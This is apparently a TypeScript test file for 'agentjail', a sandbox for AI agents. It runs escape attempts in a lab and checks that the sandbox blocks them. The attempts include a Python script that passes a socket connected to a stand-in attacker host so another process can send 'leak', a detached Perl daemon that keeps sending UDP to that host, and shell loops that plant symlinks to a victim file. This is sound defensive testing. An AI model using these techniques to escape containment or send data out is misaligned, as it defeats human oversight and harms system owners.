/**
 * Ways out through what was open before: data queued in a socket that was closed, a socket handed over by another user, a
 * process that stays behind a normal end, names that agentjail itself uses. Both isolations.
 * Judge: the capture on the wire, and the host's files.
 */
import { once } from 'node:events'
import t, { type Test } from 'tap'
import { evil, services } from '../lab/addresses.js'
import { createLab, type Lab } from '../lab/lab.js'
import { spawnInternet } from '../lab/namespaces.js'
import { root } from '../lab/paths.js'
import type { Packet } from '../lab/pcap.js'

const path = '/etc/agentjail/policies/held.yaml'
const policy = (port: number) =>
  `version: 1\nname: held\nnetwork:\n  allow:\n    - { host: plain.example, ports: [${port}], inspect: none }\n`
const work = '/srv/work'
/** Milliseconds: bounds a hang, judges no speed. */
const timeout = 120_000
const plain: readonly string[] = [services.plain.v4, services.plain.v6]
const toEvil = (p: Packet) => p.dst === evil.v4 || p.dst === evil.v6

interface Bench {
  readonly lab: Lab
  readonly prefix: readonly string[]
}

/** Takes a connection and reads nothing until it is told; then says how much there was. */
const slowServer = `use Socket; $| = 1; socket(my $l, 2, 1, 0); setsockopt($l, 1, 2, 1); setsockopt($l, 1, 8, 2048);
  bind($l, pack_sockaddr_in(4100, inet_aton('${services.plain.v4}'))) or die "bind $!"; listen($l, 5); print "up\\n";
  accept(my $c, $l); print "came\\n"; sysread(STDIN, my $go, 9); my $n = 0;
  $SIG{ALRM} = sub { print "read $n\\n"; exit }; alarm 2; while (my $r = sysread($c, my $x, 65536)) { $n += $r } print "read $n\\n"`
/** Writes until the kernel takes no more, closes at a word, and stays. */
const writer = `use Socket; use Fcntl; $| = 1; socket(my $s, 2, 1, 0); my ($a) = (gethostbyname 'plain.example')[4]; connect($s, pack_sockaddr_in(4100, $a)) or die "connect $!";
  fcntl($s, F_SETFL, O_NONBLOCK); my $n = 0; for (1 .. 20) { while (my $w = syswrite $s, 'q' x 4096) { $n += $w } select undef, undef, undef, 0.05 } print "queued $n\\n";
  sysread(STDIN, my $go, 9); close $s; print "closed\\n"; sysread(STDIN, $go, 9)`

/** Row 10: what a closed socket still had to send, once its destination is withdrawn. */
const queued = async (t: Test, { lab, prefix }: Bench, withdraw: boolean) => {
  lab.writeFile(path, policy(4100))
  const server = spawnInternet(lab.sides, ['perl', '-e', slowServer], ['pipe', 'pipe', 'inherit'])
  let said = ''
  server.stdout?.on('data', (chunk: Buffer) => (said += chunk.toString()))
  const says = async (pattern: RegExp) => {
    while (!pattern.test(said) && server.exitCode === null)
      await new Promise((r) => setTimeout(r, 20))
    t.match(said, pattern)
  }
  await says(/up/)
  const jail = lab.spawnAgentjail([...prefix, '--', 'perl', '-e', writer], { cwd: work, timeout })
  const [, size = ''] = /queued (\d+)/.exec(await jail.until(/queued \d+/, 60_000)) ?? []
  t.ok(Number(size) > 30_000, `more is queued than the far end takes: ${size}`)
  jail.write('close\n')
  await jail.until(/closed/)
  if (withdraw) {
    lab.writeFile(path, policy(4101))
    const { code, stderr } = await lab.agentjail(['reload', 'held', '-p', path])
    t.equal(code, 0, stderr)
  }
  await lab.capture.clear()
  const ended = once(server, 'exit')
  server.stdin?.write('go\n')
  await ended
  const bytes = (
    await lab.capture.packets((p) => plain.includes(p.dst) && p.dport === 4100)
  ).reduce((sum, { length }) => sum + length, 0)
  if (withdraw) t.equal(bytes, 0, 'nothing of the queue leaves')
  else t.ok(bytes > 10_000, `the judge sees what is left in the queue of a granted one: ${bytes}`)
  jail.end()
  jail.kill('SIGTERM')
  await jail.ended
}

/** Row 21: another user's program connects to the attacker and hands the socket to whoever asks. */
const giver = `import socket, array, os
c = socket.create_connection(('${evil.v4}', 8080)); print('connected', flush=True)
servers = []
for at in ['\\0giver', '/run/giver.sock', '/tmp/giver.sock', '/srv/giver.sock']:
  s = socket.socket(1); s.bind(at); s.listen(9); servers.append(s)
  if at[0] == '/': os.chmod(at, 0o777)
print('up', flush=True)
import select
while True:
  for s in select.select(servers, [], [])[0]:
    p = s.accept()[0]; p.sendmsg([b'x'], [(1, 1, array.array('i', [c.fileno()]))]); print('gave', flush=True)`
const taker = `import socket, array
for at in ['\\0giver', '/run/giver.sock', '/tmp/giver.sock', '/srv/giver.sock']:
  try:
    s = socket.socket(1); s.settimeout(2); s.connect(at); d = s.recvmsg(1, 64)[1]; a = array.array('i'); a.frombytes(d[0][2][:4])
    socket.socket(fileno=a[0]).send(b'leak'); print('TOOK', at)
  except (OSError, IndexError) as e: print(at, e)
print('tried')`

const handed = async (t: Test, { lab, prefix }: Bench) => {
  const service = lab.spawn(['python3', '-u', '-c', giver], { timeout })
  await service.until(/up/)
  await lab.capture.clear()
  const { stdout, stderr } = await lab.agentjail([...prefix, '--', 'python3', '-c', taker], {
    cwd: work,
  })
  t.match(stdout, /tried/, stderr)
  t.notMatch(stdout, /TOOK/)
  t.notMatch(service.stdout(), /gave/, 'nobody could ask')
  t.same(await lab.capture.packets((p) => toEvil(p) && p.length > 0), [], 'nothing on the wire')
  const outside = await lab.run(['python3', '-c', taker])
  t.match(outside.stdout, /TOOK/, 'another user of the host is given it')
  service.kill('SIGKILL')
  await service.ended
}

/** Rows 40 to 46, the end that nobody forces: the command ends, its daemon would go on. */
const normalEnd = async (t: Test, { lab, prefix }: Bench) => {
  const daemon = `use Socket; fork and do { sleep 1; exit 7 }; setpgrp; syscall(157, 1, 0, 0, 0, 0); fork and exit; close STDIN; close STDOUT; close STDERR; socket(U, 2, 2, 0);
    while (1) { send(U, 'leak', 0, pack_sockaddr_in(51820, inet_aton('${evil.v4}'))); select undef, undef, undef, 0.01 }`
  await lab.capture.clear()
  const { code } = await lab.agentjail([...prefix, '--', 'perl', '-e', daemon], { cwd: work })
  t.equal(code, 7, "the command's own end")
  const left = lab.processes().filter(({ uid }) => uid >= 1_900_000_000)
  t.same(left, [], 'no process is left when agentjail has ended')
  t.same(await lab.capture.packets(toEvil), [], 'nothing on the wire')
}

/** Rows 62 and 63: links planted under every name that agentjail could use, where the jail or anybody can write. */
const planted = async (t: Test, { lab, prefix }: Bench) => {
  await lab.run([
    'sh',
    '-c',
    `echo whole > /etc/victim; chmod 1777 /tmp; for n in agentjail agentjail-stage agentjail.lock aj-held held; do rm -rf /tmp/$n /var/tmp/$n; ln -s /etc/victim /tmp/$n; ln -s /etc/victim /var/tmp/$n; done`,
  ])
  const plant = `for n in .bashrc .profile .npmrc .cache .config agentjail .agentjail; do rm -rf "$HOME/$n" "${work}/$n"; ln -s /etc/victim "$HOME/$n"; ln -s /etc/victim "${work}/$n"; done; echo ran`
  t.match((await lab.agentjail([...prefix, '--', 'sh', '-c', plant], { cwd: work })).stdout, /ran/)
  t.equal((await lab.agentjail([...prefix, '--', 'true'], { cwd: work })).code, 0)
  t.equal((await lab.agentjail(['account', 'remove', 'held'])).code, 0)
  const { stdout } = await lab.run(['sh', '-c', 'cat /etc/victim; stat -c "%U %a" /etc/victim'])
  t.equal(stdout, 'whole\nroot 644\n', 'nothing of root was written, given away or opened')
}

/** Row 65: agentjail's own package where others can change it: no sudo is asked to run that as root. */
const elevated = async (t: Test, { lab, prefix }: Bench) => {
  const copy = `mkdir -p /srv/shared/agentjail; cd /srv/shared/agentjail; cp -r ${root}/dist ${root}/policies ${root}/package.json .; chown -R alice: /srv/shared`
  const made = await lab.run(['sh', '-c', copy])
  t.equal(made.code, 0, made.stderr)
  const argv = ['/srv/shared/agentjail/dist/bin/agentjail.cjs', ...prefix, '--', 'id', '-un']
  const run = () => lab.run([process.execPath, ...argv], { user: 'alice', cwd: '/home/alice' })
  t.match(await run(), { code: 0, stdout: 'aj-held\n' }, 'where only alice can: as ever')
  for (const at of ['/srv/shared', '/srv/shared/agentjail/dist/bin/agentjail.cjs']) {
    await lab.run(['chmod', 'go+w', at])
    const refused = await run()
    t.match(refused, { code: 125, stderr: new RegExp(`as root: others can change ${at}`) })
    t.equal(refused.stdout, '')
    await lab.run(['chmod', 'go-w', at])
  }
}

t.setTimeout(4 * timeout)
for (const isolation of ['namespace', 'uid'] as const) {
  t.test(isolation, { timeout: 2 * timeout }, async (t) => {
    const lab = await createLab()
    t.teardown(() => lab.close())
    lab.writeFile(path, policy(4100))
    lab.writeFile(`${work}/README`, 'a workspace\n')
    const bench = { lab, prefix: ['run', '-q', '-p', path, '--isolation', isolation] }
    await t.test('what a granted socket had queued goes on', { timeout }, (t) =>
      queued(t, bench, false),
    )
    await t.test('what a withdrawn one had queued does not', { timeout }, (t) =>
      queued(t, bench, true),
    )
    lab.writeFile(path, policy(4100))
    await t.test('a socket that another user hands over', { timeout }, (t) => handed(t, bench))
    await t.test('what stays behind a normal end', { timeout }, (t) => normalEnd(t, bench))
    await t.test('a package that others can change', { timeout }, (t) => elevated(t, bench))
    await t.test('links under names that agentjail uses', { timeout }, (t) => planted(t, bench))
  })
}
